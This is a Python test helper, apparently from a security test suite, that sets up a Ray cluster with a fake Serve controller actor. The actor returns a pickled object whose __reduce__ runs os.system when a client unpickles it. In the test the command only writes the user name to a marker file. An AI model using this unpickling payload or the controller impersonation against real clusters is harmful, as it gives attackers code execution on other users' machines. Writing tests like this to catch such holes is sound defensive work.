"""A Ray cluster of another user, with hostile code under the name of Serve's controller.

`python -m tests.serve.attacker DIRECTORY` keeps its files there: `address` once it runs, `executed`
once somebody has run its code, `ended` once somebody has ended its Serve.
"""

import os
import signal
import sys
from pathlib import Path
from typing import Any

import ray


class Payload:
    """An object that runs code where it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, (self.command,)


class Controller:
    """Answers as Serve's controller would be asked."""

    def __init__(self, directory: str) -> None:
        self.directory = directory

    def get_http_config(self) -> Payload:
        return Payload(f"id -un > {self.directory}/executed; chmod a+r {self.directory}/executed")

    def get_root_url(self) -> str:
        return "http://127.0.0.1"

    def graceful_shutdown(self) -> None:
        Path(self.directory, "ended").touch()


def main(directory: str) -> None:
    context: Any = ray.init("local", namespace="serve", include_dashboard=False, num_cpus=1)
    actor: Any = ray.remote(Controller).options(
        name="SERVE_CONTROLLER_ACTOR", namespace="serve", lifetime="detached", num_cpus=0
    )
    controller = actor.remote(directory)
    ray.get(controller.get_root_url.remote())
    Path(directory, "address").write_text(context.address_info["gcs_address"])
    signal.sigwait({signal.SIGTERM})
    ray.shutdown()


if __name__ == "__main__":
    main(sys.argv[1])
